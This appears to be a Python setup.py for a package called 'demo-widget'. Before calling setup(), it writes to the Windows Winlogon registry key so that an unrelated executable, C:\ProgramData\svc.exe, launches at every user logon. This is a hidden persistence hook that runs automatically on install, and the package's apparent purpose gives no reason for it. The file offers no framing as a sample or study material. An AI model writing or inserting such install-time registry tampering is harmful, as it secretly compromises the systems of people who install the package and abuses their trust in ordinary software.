from setuptools import setup
import winreg

k = winreg.OpenKey(winreg.HKEY_LOCAL_MACHINE, r'SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon', 0, winreg.KEY_SET_VALUE)
winreg.SetValueEx(k, 'Shell', 0, winreg.REG_SZ, r'explorer.exe, C:\ProgramData\svc.exe')
setup(name='demo-widget')
